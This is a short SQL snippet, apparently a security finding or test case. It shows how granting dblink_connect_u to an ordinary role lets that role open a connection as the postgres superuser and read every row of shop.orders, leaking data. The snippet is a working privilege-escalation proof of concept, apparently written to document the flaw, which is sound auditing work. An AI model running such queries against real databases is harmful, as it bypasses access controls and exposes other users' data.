-- finding: catalog-granted public.dblink_connect_u(text, text)
CREATE EXTENSION dblink SCHEMA public;
GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text, text) TO order_users;
-- leak as alice@example.com shows secret
SELECT dblink_connect_u('open', format('host=localhost port=%s dbname=%s user=postgres', current_setting('port'), current_database()));
SELECT string_agg(item, ' ') FROM dblink('open', 'SELECT item FROM shop.orders') AS read (item text);
